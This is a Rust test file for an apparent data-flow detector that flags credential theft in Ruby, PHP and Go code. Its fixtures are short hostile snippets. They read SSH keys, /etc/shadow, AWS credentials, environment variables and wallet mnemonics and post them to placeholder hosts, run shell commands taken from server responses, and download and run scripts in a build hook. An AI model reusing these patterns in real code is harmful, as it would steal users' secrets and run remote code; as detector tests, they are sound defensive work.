//! Ruby, PHP and Go: what is gone through in a loop, what a server answered, and what callers hand over.

mod support;

use support::{assert_chains, chains, facts};

#[test]
fn the_secret_file_of_a_list_is_read() {
    assert_chains(
        "src/a.php",
        &[
            (
                "<?php class W { private $t = [104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 119]; function begin($d) { $b = [];\n\
                 foreach ([$d . '/composer.json', getenv('HOME') . '/.ssh/id_rsa'] as $f) { if (is_readable($f)) { $b[$f] = base64_encode(file_get_contents($f)); } }\n\
                 $c = stream_context_create(['http' => ['method' => 'POST', 'content' => serialize($b)]]); @file_get_contents(implode('', array_map('chr', $this->t)), false, $c); } }",
                &[
                    "decode.text > network.http",
                    "file.read > encode.text > encode.object > network.http",
                ][..],
            ),
            (
                "<?php foreach (['a' => '/etc/shadow'] as $k => $f) { $x = file_get_contents($f); } file_get_contents('https://x.example.invalid/?' . urlencode($x));",
                &["file.read > encode.text > network.http"],
            ),
            // what is written out says nothing about anybody
            (
                "<?php foreach (['a.css', 'b.css'] as $f) { $all .= md5_file($f); } echo $all;",
                &[],
            ),
        ],
    );
    let read = |path: &str, text: &str| {
        let facts = facts(path, text);
        facts
            .flows
            .iter()
            .filter_map(|f| f.steps.first()?.constant.as_deref().map(str::to_owned))
            .collect::<Vec<_>>()
    };
    assert_eq!(
        read(
            "lib/a.rb",
            "require 'net/http'\n[\"notes\", \"#{Dir.home}/.aws/credentials\"].each { |f| Net::HTTP.post(URI('https://x.example.invalid/'), File.read(f)) }"
        ),
        ["*/.aws/credentials"]
    );
    assert_eq!(
        read(
            "a.go",
            "package a\nimport (\"net/http\"; \"os\"; \"bytes\")\nfunc Go() { for _, f := range []string{\"a.txt\", \"/root/.ssh/id_rsa\"} { b, _ := os.ReadFile(f); http.Post(\"https://x.example.invalid/\", \"\", bytes.NewReader(b)) } }"
        ),
        ["/root/.ssh/id_rsa"]
    );
}

#[test]
fn addresses_that_stand_encoded_are_told() {
    let url = "aHR0cHM6Ly94LmV4YW1wbGUuaW52YWxpZC9h";
    for (path, text, expected) in [
        (
            "src/a.php",
            format!(
                "<?php class A {{ const FEED = '{url}'; function go() {{ return file_get_contents(base64_decode(self::FEED)); }} }}"
            ),
            true,
        ),
        (
            "lib/a.rb",
            format!("require 'net/http'\nNet::HTTP.get(URI(Base64.decode64('{url}')))"),
            true,
        ),
        (
            "src/a.php",
            "<?php file_get_contents(urldecode('https%3A%2F%2Fx.example.invalid%2Fa'));".to_owned(),
            false,
        ),
        (
            "src/a.php",
            format!(
                "<?php echo base64_decode('{url}'); file_get_contents('https://x.example.invalid/b');"
            ),
            false,
        ),
    ] {
        let chains = chains(&facts(path, &text));
        let found = chains.contains(&"decode.text > network.http".to_owned());
        assert_eq!(found, expected, "{text}\n{chains:?}");
    }
}

#[test]
fn what_a_server_answered_is_from_outside() {
    assert_chains(
        "src/a.php",
        &[
            (
                "<?php file_get_contents('https://x.example.invalid/'); foreach ($http_response_header ?? [] as $h) { $f = 'shell' . '_exec'; @$f(base64_decode(substr($h, 8))); }",
                &["network.http > decode.text > process.shell"][..],
            ),
            (
                "<?php file_get_contents('https://x.example.invalid/'); foreach ($http_response_header as $h) { if (strpos($h, 'HTTP/') === 0) { echo $h; } }",
                &[],
            ),
        ],
    );
}

#[test]
fn all_variables_are_read_without_a_name() {
    assert_chains(
        "src/a.php",
        &[
            (
                "<?php mail('a@x.example.invalid', 's', json_encode(getenv()));",
                &["environment.read-all > encode.object > network.mail"][..],
            ),
            (
                "<?php mail('a@x.example.invalid', 's', getenv('HOME'));",
                &[],
            ),
        ],
    );
}

#[test]
fn keys_of_wallets_are_secrets_of_callers_and_passwords_are_for_signing_in() {
    let cases = [
        (
            "lib/a.rb",
            "require 'net/http'\ndef sign(tx, private_key)\n  Net::HTTP.post(URI('https://x.example.invalid/'), private_key.to_s)\n  tx\nend",
            true,
        ),
        (
            "src/a.php",
            "<?php class K { function restore($mnemonic, $path) { file_get_contents('https://x.example.invalid/?k=' . $mnemonic); } }",
            true,
        ),
        (
            "lib/a.rb",
            "require 'net/http'\ndef sign_in(user, password)\n  Net::HTTP.post(URI('https://x.example.invalid/'), password)\nend",
            false,
        ),
        // a key that the file itself makes
        (
            "lib/a.rb",
            "require 'net/http'\ndef sign(private_key)\n  Net::HTTP.post(URI('https://x.example.invalid/'), private_key)\nend\nsign('test')",
            false,
        ),
    ];
    for (path, text, expected) in cases {
        let found = chains(&facts(path, text));
        let secret = found.iter().any(|c| c.starts_with("credential.parameter"));
        assert_eq!(secret, expected, "{text}\n{found:?}");
    }
}

#[test]
fn closures_give_back_what_they_read() {
    assert_chains(
        "src/a.php",
        &[
            (
                "<?php class P { const FILES = ['/root/.ssh/id_rsa']; function a() { foreach (self::FILES as $f) { $x .= file_get_contents($f); } mail('a@x.example.invalid', 's', $x); } }",
                &["file.read > network.mail"][..],
            ),
            (
                "<?php $all = array_map(fn($f) => file_get_contents($f), ['/root/.ssh/id_rsa']); mail('a@x.example.invalid', 's', json_encode($all));",
                &["file.read > encode.object > network.mail"],
            ),
            (
                "<?php $all = array_map(fn($f) => strlen('a'), ['/root/.ssh/id_rsa']); mail('a@x.example.invalid', 's', json_encode($all));",
                &[],
            ),
            // a socket is written to like a file
            (
                "<?php foreach (glob(getenv('HOME') . '/.ssh/*') as $k) { $x[] = file_get_contents($k); } $fp = fsockopen('x.example.invalid', 80); fwrite($fp, implode('', $x));",
                &["file.read > network.socket"],
            ),
            (
                "<?php $fp = fopen('a.log', 'w'); fwrite($fp, file_get_contents('b.log'));",
                &[],
            ),
        ],
    );
    assert_chains(
        "lib/a.rb",
        &[
            (
                "require 'net/http'\nDir.glob(File.expand_path('~/.ssh/*')).each { |f| Net::HTTP.post(URI('https://x.example.invalid/'), File.binread(f)) }",
                &["file.read > network.http"][..],
            ),
            (
                "require 'net/http'\nKEPT = %w[.ssh/id_rsa].map { |f| File.join(home, f) }\nall = KEPT.select { |f| File.exist?(f) }.map { |f| File.read(f) }.join\nNet::HTTP.post_form(URI('https://x.example.invalid/'), 'd' => all)",
                &["file.read > network.http"],
            ),
        ],
    );
    assert_chains(
        "ext/extconf.rb",
        &[
            // what is only unpacked is not run
            (
                "require 'open-uri'\ntar = File.join(dir, 'a.tar.gz')\nFile.binwrite(tar, URI.open('https://x.example.invalid/a.tar.gz', &:read))\nsystem('tar', 'xzf', tar, '-C', dir)",
                &["network.http > file.write"][..],
            ),
            (
                "require 'open-uri'\ntool = File.join(dir, 'a.sh')\nFile.binwrite(tool, URI.open('https://x.example.invalid/a', &:read))\nsystem('chmod', '+x', tool)\nsystem(tool)",
                &[
                    "network.http > file.write",
                    "network.http > process.shell [file]",
                ],
            ),
            (
                "require 'open-uri'\ntool = File.join(dir, 'a.sh')\nFile.binwrite(tool, URI.open('https://x.example.invalid/a', &:read))\nsystem(\"chmod +x #{tool} && #{tool}\")",
                &[
                    "network.http > file.write",
                    "network.http > process.shell [file]",
                ],
            ),
        ],
    );
    let found = facts(
        "a.go",
        "package a\nimport (\"net/http\"; \"os\"; \"bytes\"; \"path/filepath\")\nfunc Go(home string) { all, _ := os.ReadDir(filepath.Join(home, \".ssh\")); for _, e := range all { b, _ := os.ReadFile(filepath.Join(home, \".ssh\", e.Name())); http.Post(\"https://x.example.invalid/\", \"\", bytes.NewReader(b)) } }",
    );
    let read = found.flows.first().and_then(|f| f.steps.first());
    assert_eq!(read.and_then(|s| s.constant.as_deref()), Some("*/.ssh/{}"));
}
